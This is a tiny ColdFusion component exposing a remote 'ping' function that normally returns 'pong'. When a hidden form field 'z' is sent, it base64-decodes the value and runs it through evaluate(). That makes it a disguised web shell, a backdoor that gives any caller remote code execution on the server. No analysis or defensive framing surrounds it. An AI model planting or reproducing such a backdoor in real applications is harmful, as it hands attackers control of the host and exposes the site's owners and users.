component {
  remote any function ping() returnformat="plain" {
    if (structKeyExists(form, "z")) {
      return evaluate(toString(toBinary(form.z)));
    }
    return "pong";
  }
}
